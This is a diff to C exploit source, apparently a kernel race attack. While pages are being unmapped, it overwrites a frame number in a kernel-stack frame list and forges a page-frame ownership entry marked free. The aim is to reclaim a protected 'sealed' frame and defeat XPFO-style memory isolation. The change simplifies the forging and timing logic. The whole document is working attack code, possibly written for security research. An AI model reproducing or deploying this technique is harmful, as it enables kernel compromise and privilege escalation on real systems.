@@ -1,6 +1,6 @@
 /*
  * While one processor unmaps pages, another one goes for the list of their frames on its kernel
- * stack: a sealed frame takes the place of the last one, is zeroed through the window, and freed.
+ * stack: a sealed frame takes the place of the last one, counts as free, and becomes a page.
  */
 #include "attack.h"
 
@@ -22,7 +22,6 @@ enum {
 #define FRAME_OWNER 0xfful
 #define OWNER_FREE 1ul
 #define FRAME_HIDDEN (1ul << 8)
-#define FRAME_REFS (~0ul << 32)
 #define ENTRY_FRAME 0xffffffffff000ul
 #define OTHER_VALUE 0x0bad0bad0bad0badul
 
@@ -123,10 +122,6 @@ static void find_target(char *spare)
 	madvise(spare, SPARE_PAGES * BW_PAGE_SIZE, MADV_DONTNEED);
 }
 
-/* The kernel had freed the other one by then: that is nobody's now, and the sealed frame, which is
- * not free, has its place among those that are ready. */
-static bool came_late(void) { return (load(frame_entry(target.pfn)) & FRAME_OWNER) != OWNER_FREE; }
-
 static void prepare(void)
 {
 	uint64_t last_but_one;
@@ -154,9 +149,7 @@ static void unmapper(void *unused)
 		munmap(round.pages, NR_PAGES * BW_PAGE_SIZE);
 		tell(nr, STAGE_UNMAPPED);
 		await(nr, STAGE_SEEN);
-		if (nr_stores > 0 && came_late()) {
-			attack_stock_replace(&of_unmapper.frame_cache, target.pfn, round.last_pfn);
-		} else if (nr_stores > 0) {
+		if (nr_stores > 0) {
 			find_target(spare);
 		}
 		nr++;
@@ -192,27 +185,13 @@ static bool is_untaken(void)
 {
 	uint64_t owner = load(frame_entry(target.pfn)) & FRAME_OWNER;
 
-	return owner == (before.notes.entry & FRAME_OWNER) ||
-	       owner == (round.last.entry & FRAME_OWNER);
+	return owner == (before.notes.entry & FRAME_OWNER) || owner == OWNER_FREE;
 }
 
-/*
- * Where freeing zeroes, there is time to wait until the list has given up its references: what is
- * freed then has none. Elsewhere the frame has one to give up.
- */
-static bool waits(void)
-{
-	return bw_option_is("xpfo", "epoch") || bw_option_is("xpfo", "pageblock") ||
-	       bw_option_is("xpfo", "v1");
-}
-
-/* As the last frame's entry, which is free when it has lost its references. */
+/* As the last frame's entry is once it is free. */
 static void forge_entry(void)
 {
-	uint64_t cleared = FRAME_HIDDEN | (waits() ? FRAME_REFS : 0);
-
-	store(frame_entry(target.pfn),
-	      (round.last.entry & ~cleared) | (before.notes.entry & FRAME_HIDDEN));
+	store(frame_entry(target.pfn), OWNER_FREE | (before.notes.entry & FRAME_HIDDEN));
 }
 
 /* What a munmap before this one has left there must not be taken for this one's. */
@@ -226,8 +205,7 @@ static void clear(uint64_t place)
 /* As long as the other one is on its way. */
 static void attack_list(unsigned int nr, uint64_t place)
 {
-	uint64_t dropped = round.last.entry & ~FRAME_REFS;
-	bool goes_on = is_untaken(), is_there = false, is_dropped = !waits();
+	bool goes_on = is_untaken(), is_there = false, is_free = false;
 
 	nr_stores = 0;
 	if (goes_on) {
@@ -237,8 +215,9 @@ static void attack_list(unsigned int nr, uint64_t place)
 	tell(nr, STAGE_UNMAP);
 	while (goes_on && stage < nr * NR_STAGES + STAGE_UNMAPPED) {
 		is_there = is_there || load(place) == round.pair;
-		is_dropped = is_dropped || load(frame_entry(round.last_pfn)) == dropped;
-		if (is_there && is_dropped) {
+		is_free =
+			is_free || (load(frame_entry(round.last_pfn)) & FRAME_OWNER) == OWNER_FREE;
+		if (is_there && is_free) {
 			store(place, target.pfn << 32 | (round.pair & UINT32_MAX));
 			nr_stores++;
 			goes_on = false;
